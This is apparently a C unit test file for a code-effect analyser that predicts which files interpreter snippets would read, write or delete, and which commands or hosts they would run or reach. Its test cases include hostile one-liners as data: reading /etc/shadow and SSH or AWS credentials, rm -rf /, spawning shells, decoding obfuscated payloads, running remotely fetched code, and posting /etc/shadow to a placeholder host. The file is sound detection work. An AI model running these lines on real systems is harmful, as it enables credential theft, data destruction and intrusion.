/* Code of interpreters: what each text would touch. Notation as in commands_cases.inc. */
#include "shell/code.h"
#include "tests/unit/tap.h"

#include "base/buf.h"

#include <time.h>

__attribute__((weak)) bool shell_add_effect(struct shell_analysis *a, const struct shell_effect *e)
{
	struct shell_effect *v;

	if (a->n_effects >= SHELL_EFFECTS_MAX) {
		a->unparsable = true;
		return false;
	}
	v = arena_grow(&a->arena, a->effects, a->n_effects, &a->cap_effects, sizeof(*v));
	if (!v)
		return false;
	a->effects = v;
	v[a->n_effects++] = *e;
	return true;
}

static void scan(struct buf *b, const char *lang, const char *text, size_t len)
{
	static const char kinds[SHELL_EFFECT_COUNT] = "rwdlxce";
	struct shell_analysis a = {0};
	struct code_place place = {.a = &a, .cwd = "/w", .home = "/home/u"};
	struct commands_run runs[COMMANDS_RUNS_MAX];
	size_t n = code_scan((enum code_lang)code_lang(lang), text, len, &place, runs, 0);

	for (size_t i = 0; i < a.n_effects; i++) {
		const struct shell_effect *e = &a.effects[i];

		buf_printf(b, "%s%c%s%s%s%s:", b->len ? " " : "", kinds[e->kind],
			   e->recursive ? "/" : "", e->dangerous ? "!" : "", e->guess ? "?" : "",
			   e->unknown ? "u" : "");
		for (const char *p = e->text; *p; p++)
			buf_putc(b, *p == SHELL_UNKNOWN ? '?' : *p);
	}
	for (size_t i = 0; i < n; i++) {
		buf_printf(b, "%s<", b->len ? " " : "");
		for (const char *p = runs[i].text; *p; p++)
			buf_putc(b, *p == SHELL_UNKNOWN ? '?' : *p);
		buf_putc(b, '>');
	}
	buf_printf(b, "%s%s%s", a.unknown_code ? " UNKNOWN" : "", a.decoded ? " DECODED" : "",
		   a.unparsable ? " BAD" : "");
	arena_done(&a.arena);
}

static const struct {
	const char *lang, *text, *want;
} cases[] = {
	/* reading, writing, deleting */
	{"python", "print(open('/etc/shadow').read())", "r:/etc/shadow"},
	{"python", "open('a.txt', 'w').write('x')", "w:/w/a.txt"},
	{"python", "open(file='a', mode='ab')", "w:/w/a"},
	{"python", "with open(r'/etc/hosts', 'r+') as f:\n  pass", "w:/etc/hosts r:/etc/hosts"},
	{"python", "import os; os.remove('/a'); os.unlink(\"b\")", "d/!:/a d!:/w/b"},
	{"python", "import shutil\nshutil.rmtree('/home/u/x')", "d/!:/home/u/x"},
	{"python",
	 "import os\nprint(open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read())",
	 "r:/home/u/.ssh/id_rsa"},
	{"python", "from pathlib import Path\nprint((Path.home() / '.ssh' / 'id_rsa').read_text())",
	 "r:/home/u/.ssh/id_rsa"},
	{"python", "import pathlib; pathlib.Path('/etc/x').unlink()", "d!:/etc/x"},
	{"python", "p = '/etc/' + 'pass' 'wd'; open(p)", "r?:/etc/passwd r:/etc/passwd"},
	{"python", "p = Path('~/.aws').expanduser() / 'credentials'\nprint(p.read_text())",
	 "r?:/home/u/.aws/credentials r:/home/u/.aws/credentials"},
	{"python", "open(f\"/home/{user}/.ssh/id_rsa\")", "ru:/home/?/.ssh/id_rsa"},
	{"python", "u='bob'\nopen(f'/home/{u}/x')", "r:/home/bob/x"},
	{"python", "open(os.environ['HOME'] + '/.netrc')", "r:/home/u/.netrc"},
	{"python", "open(chr(47)+'etc'+chr(0x2f)+'passwd')", "r:/etc/passwd"},
	{"python", "import base64; open(base64.b64decode('L2V0Yy9wYXNzd2Q=').decode())",
	 "r:/etc/passwd"},
	{"python", "open(bytes.fromhex('2f6574632f706173737764').decode())", "r:/etc/passwd"},
	{"python", "open('dwssap/cte/'[::-1])", "r:/etc/passwd"},
	{"python", "open('/'.join(['', 'etc', 'passwd']))", "r:/etc/passwd"},
	{"python", "open('/etc/%s' % x)", "ru:/etc/?"},
	{"python", "shutil.copy('/etc/shadow', '/tmp/x')", "r/:/etc/shadow w/:/tmp/x"},
	{"python", "os.rename('a', 'b')", "r:/w/a d!:/w/a w:/w/b"},
	{"python", "# open('/etc/shadow')\nx = 1", ""},
	{"python", "print('hello, world')", ""},
	{"python", "x.split('/')", ""},
	{"python", "l = [1]; l.remove(1); d.get('a')", ""},
	{"python", "import json; json.load(open('package.json'))", "r:/w/package.json"},
	{"python", "foo('/etc/shadow')", "r?:/etc/shadow"},
	{"python", "os.chdir('/etc'); open('passwd')", "r:/etc/passwd"},
	{"node", "require('fs').readFileSync('/etc/shadow')", "r:/etc/shadow"},
	{"node",
	 "const fs = require('fs');\nfs.writeFileSync('a', 'b'); fs.rmSync('/x', {recursive: true, "
	 "force: true})",
	 "w:/w/a d/!:/x"},
	{"node", "fs.readFileSync(process.env.HOME + '/.ssh/id_rsa')", "r:/home/u/.ssh/id_rsa"},
	{"node", "fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'))",
	 "r:/home/u/.aws/credentials"},
	{"node", "fs.readFileSync(`${process.env.HOME}/.npmrc`)", "r:/home/u/.npmrc"},
	{"node", "fs.readFileSync(Buffer.from('L2V0Yy9wYXNzd2Q=', 'base64').toString())",
	 "r:/etc/passwd"},
	{"node", "fs.readFileSync(atob('L2V0Yy9wYXNzd2Q='))", "r:/etc/passwd"},
	{"node", "fs.readFileSync(String.fromCharCode(47,101,116,99))", "r:/etc"},
	{"node", "x=/'/; fs.unlinkSync('/a'); y=/'/", "d!:/a"},
	{"node", "fs.promises.readFile('/etc/shadow')", "r:/etc/shadow"},
	{"node", "Deno.readTextFileSync('/etc/shadow')", "r:/etc/shadow"},
	{"perl", "open(F, '<', '/etc/shadow'); print <F>", "r:/etc/shadow"},
	{"perl", "open(my $f, \">$ENV{HOME}/.bashrc\")", "w:/home/u/.bashrc"},
	{"perl", "unlink '/a', \"/b\"", "d!:/a d!:/b"},
	{"perl", "my $d = q(/etc); open F, $d . '/shadow'", "r?:/etc r:/etc/shadow"},
	{"ruby", "puts File.read('/etc/shadow')", "r:/etc/shadow"},
	{"ruby", "File.delete(File.join(Dir.home, '.ssh', 'id_rsa'))", "d/!:/home/u/.ssh/id_rsa"},
	{"ruby", "require 'fileutils'; FileUtils.rm_rf('/x')", "d/!:/x"},
	{"ruby", "File.write(\"#{ENV['HOME']}/.bashrc\", 'x')", "w:/home/u/.bashrc"},
	{"php", "echo file_get_contents('/etc/shadow');", "r:/etc/shadow"},
	{"php", "$p = '/etc/'; readfile($p . 'shadow');", "r?:/etc r:/etc/shadow"},
	{"lua", "io.open('/etc/shadow')", "r:/etc/shadow"},
	{"lua", "os.remove('/a' .. '/b')", "d/!:/a/b"},
	{"R", "unlink('/x', recursive=TRUE)", "d/!:/x"},
	{"R", "readLines(file.path('~', '.ssh', 'id_rsa'))", "r:/home/u/.ssh/id_rsa"},
	{"awk", "{print > \"/tmp/o\"; while ((getline l < \"/etc/shadow\") > 0) x}",
	 "w:/tmp/o r:/etc/shadow"},
	{"awk", "BEGIN {\"id\" | getline x; print | \"sh\"}", "<id> <sh>"},
	/* running */
	{"python", "import os; os.system('rm -rf /')", "<rm -rf />"},
	{"python", "import subprocess\nsubprocess.run(['rm', '-rf', '/a b'])", "<rm -rf '/a b'>"},
	{"python", "subprocess.check_output('id', shell=True)", "<id>"},
	{"python", "import subprocess as sp; sp.run('rm x', shell=True)", "<rm x>"},
	{"python", "from os import system as s\ns('id')", "<id>"},
	{"python", "f = os.system\nf('id')", "<id>"},
	{"python", "__import__('os').system('id')", "<id>"},
	{"python", "getattr(os, 'sys' + 'tem')('id')", "<id>"},
	{"python", "os.execvp('rm', ['rm', '-rf', '/'])", "<rm -rf />"},
	{"python", "import pty; pty.spawn('/bin/sh')", "</bin/sh>"},
	{"python", "exec(\"import os; os.system('id')\")", "<id>"},
	{"python", "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))",
	 "<id> DECODED"},
	{"python", "import requests; exec(requests.get('https://h/x').text)",
	 "c:https://h/x UNKNOWN"},
	{"python", "os.system(x)", "<?> UNKNOWN"},
	{"python", "os.popen('cat ' + x)", "<cat ?>"},
	{"node", "require('child_process').execSync('id')", "<id>"},
	{"node", "require('child_process').exec('id', (e,o)=>console.log(o))", "<id>"},
	{"node", "const {spawn} = require('child_process'); spawn('rm', ['-rf', '/'])",
	 "<rm -rf />"},
	{"node", "const cp = require('child_process'); cp.exec('id')", "<id>"},
	{"node", "require('child_process')['exec']('id')", "<id>"},
	{"node", "/a/.exec(s); re.exec(line)", ""},
	{"node", "eval(atob('cmVxdWlyZSgiZnMiKS51bmxpbmtTeW5jKCIvYSIp'))", "d!:/a DECODED"},
	{"node", "await $`rm -rf /x`", "<rm -rf /x>"},
	{"node", "new Deno.Command('rm', {args: ['-rf', '/']})", "<rm -rf />"},
	{"perl", "system('rm', '-rf', '/')", "<rm -rf />"},
	{"perl", "system \"rm -rf /\"", "<rm -rf />"},
	{"perl", "print `id`; qx{whoami}; exec 'sh'", "<id> <whoami> <sh>"},
	{"perl", "open(P, 'id |')", "<id >"},
	{"perl", "eval pack('H*', '73797374656d2827696427293b')", "<id> DECODED"},
	{"ruby", "puts `id`; %x(whoami); system 'rm x'; IO.popen(['rm', 'y'])",
	 "<id> <whoami> <rm x> <rm y>"},
	{"ruby", "exec('/bin/sh')", "</bin/sh>"},
	{"ruby", "Kernel.send(:system, 'id'); open('| id')", "<id>"},
	{"php", "system('id'); echo `whoami`; $x = shell_exec('ls');", "<id> <whoami> <ls>"},
	{"lua", "os.execute('id'); io.popen('ls')", "<id> <ls>"},
	{"lua", "os.execute[[rm x]]", "<rm x>"},
	{"R", "system('id')", "<id>"},
	{"osascript", "do shell script \"rm -rf /x\" with administrator privileges", "<rm -rf /x>"},
	{"groovy", "\"rm x\".execute()", "<rm x>"},
	{"sed", "s/a/b/e", " UNKNOWN"},
	{"sed", "/x/{s|a|b|w /o\n};1e id", "w:/o <id>"},
	{"sed", "r /etc/passwd", "r:/etc/passwd"},
	{"sed", "s/\\/e/w/g;p", ""},
	{"tcl", "spawn ssh h; exec rm x", "<ssh h> <rm x>"},
	/* connecting */
	{"python", "import urllib.request; urllib.request.urlopen('http://169.254.169.254/')",
	 "c:http://169.254.169.254/"},
	{"python", "import requests; requests.post('https://h/x', data=open('/etc/shadow'))",
	 "c:https://h/x r:/etc/shadow"},
	{"python", "s = socket.socket(); s.connect(('10.0.0.1', 4444))", "c:10.0.0.1:4444"},
	{"node", "fetch('https://h/x')", "c:https://h/x"},
	{"node", "net.connect(4444, '10.0.0.1')", "c:10.0.0.1:4444"},
	{"node", "http.get({host: 'h.com', port: 80})", "c:h.com:80"},
	{"ruby", "TCPSocket.new('h', 1)", "c:h:1"},
	{"php", "fsockopen('h', 1);", "c:h:1"},
	{"python", "x = 'https://h/x'", "c?:https://h/x"},
};

static void test_cases(void)
{
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		autobuf b = {0};

		scan(&b, cases[i].lang, cases[i].text, strlen(cases[i].text));
		if (!ok(streq(buf_str(&b), cases[i].want), "%s: %s", cases[i].lang, cases[i].text))
			note("got  %s\n# want %s", buf_str(&b), cases[i].want);
	}
}

static double elapsed_ms(const struct timespec *t0)
{
	struct timespec t1;

	clock_gettime(CLOCK_MONOTONIC, &t1);
	return (double)(t1.tv_sec - t0->tv_sec) * 1e3 + (double)(t1.tv_nsec - t0->tv_nsec) / 1e6;
}

/* What one would send to make us slow: each piece repeated to a megabyte. */
static void test_time(void)
{
	static const char *const pieces[] = {
		"f(",
		"open(",
		"((",
		"[",
		"a=a+a;",
		"'a'+",
		"x='b'*9;x+=x;",
		"eval('",
		"\"",
		"`",
		"$x.",
		"system ",
		"unlink $a.",
		"{",
		"f'{",
		"q(",
		"s/",
		"open('/a');",
		"a.b(c).d(e)",
		"[['a'],['b']].join(",
		"\\",
		"/*",
		"]",
		"m.x=",
		"'(\\'",
		"exec(exec(",
		"x=y=",
		"Path('a')/",
		"(a).unlink()",
		")(",
		"getattr(a,'b')(",
		"new ",
		"-",
		"&",
		"\n",
	};
	static const char *const langs[] = {"python", "node", "perl", "ruby", "php",
					    "lua",    "sed",  "awk",  "tcl"};
	/* 250 of these: an eighth of what a text may have shows what is worse than linear as well. */
	size_t max = (size_t)1 << 17;
	autofree char *text = malloc(max);
	double worst = 0;
	const char *worst_piece = "", *worst_lang = "";

	for (size_t l = 0; l < ARRAY_SIZE(langs); l++) {
		for (size_t p = 0; p < ARRAY_SIZE(pieces); p++) {
			size_t n = strlen(pieces[p]);
			struct timespec t0;
			autobuf b = {0};
			double ms;

			for (size_t i = 0; i < max; i++)
				text[i] = pieces[p][i % n];
			clock_gettime(CLOCK_MONOTONIC, &t0);
			scan(&b, langs[l], text, max);
			ms = elapsed_ms(&t0);
			if (getenv("VERBOSE"))
				note("%s %s %.0f", langs[l], pieces[p], ms);
			if (ms > worst)
				worst = ms, worst_piece = pieces[p], worst_lang = langs[l];
		}
	}
	ok(worst < 2000, "a hostile text of 128 KiB takes at most %.0f ms (%s in %s)", worst, worst_piece,
	   worst_lang);
}

static void test_speed(void)
{
	const char *text = "import os, json\nwith open('data.json') as f:\n    d = "
			   "json.load(f)\nprint(len(d['items']))\n"
			   "for k in sorted(d):\n    print(k, d[k].get('name', ''))\n";
	struct shell_analysis a = {0};
	struct code_place place = {.a = &a, .cwd = "/w", .home = "/home/u"};
	struct timespec t0;
	unsigned n = 20000;

	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (unsigned i = 0; i < n; i++) {
		a.n_effects = a.cap_effects = 0;
		arena_reset(&a.arena);
		(void)code_scan(CODE_PYTHON, text, strlen(text), &place, NULL, 0);
	}
	ok(elapsed_ms(&t0) < n * 0.4, "a short program takes %.2f us", elapsed_ms(&t0) * 1e3 / n);
	arena_done(&a.arena);
}

int main(void)
{
	test_cases();
	test_time();
	test_speed();
	ok(code_lang("python3.11") == CODE_PYTHON && code_lang("cobol") < 0, "names of languages");
	return tap_done();
}
